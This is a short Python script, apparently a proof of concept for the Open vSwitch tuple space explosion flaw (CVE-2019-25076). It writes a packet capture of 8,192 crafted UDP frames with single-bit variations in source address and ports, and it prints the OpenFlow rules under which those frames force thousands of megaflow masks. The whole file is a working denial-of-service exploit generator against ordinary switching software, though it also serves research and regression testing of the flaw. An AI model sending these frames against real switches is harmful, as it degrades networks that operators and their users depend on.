"""Frames and rules that make a switch with megaflows split its packets into ever more masks (tuple space
explosion, CVE-2019-25076).

usage: explosion.py frames FILE    a capture of 8,192 frames
       explosion.py rules          what tells them apart, in the words of ovs-ofctl

Three rules look at one field each. A frame that differs from them in bit i of the source address, bit j
of the source port and bit k of the destination port needs a megaflow that looks at just the bits down to
there: 32 x 16 x 16 masks. What is not of the attack goes to 10.192.0.0/10 and has one mask.
"""

import struct
import sys

SOURCE, FROM, TO = 0x0a0b0c0d, 12345, 80


def frames(path):
    with open(path, 'wb') as out:
        out.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for i in range(32):
            for j in range(16):
                for k in range(16):
                    ip = struct.pack('!BBHHHBBHII', 0x45, 0, 46, 0, 0, 64, 17, 0,
                                     SOURCE ^ 1 << (31 - i), 0x0b000001)
                    udp = struct.pack('!HHHH', FROM ^ 1 << (15 - j), TO ^ 1 << (15 - k), 26, 0)
                    data = bytes.fromhex('0200000000020200000000010800') + ip + udp + bytes(18)
                    out.write(struct.pack('<IIII', 0, 0, len(data), len(data)) + data)


if sys.argv[1] == 'frames':
    frames(sys.argv[2])
else:
    print('priority=9,ip,nw_dst=10.192.0.0/10,actions=out')
    print('priority=8,udp,nw_src=10.11.12.13,actions=drop')
    print('priority=7,udp,tp_src=%d,actions=drop' % FROM)
    print('priority=6,udp,tp_dst=%d,actions=drop' % TO)
    print('priority=1,ip,actions=drop')
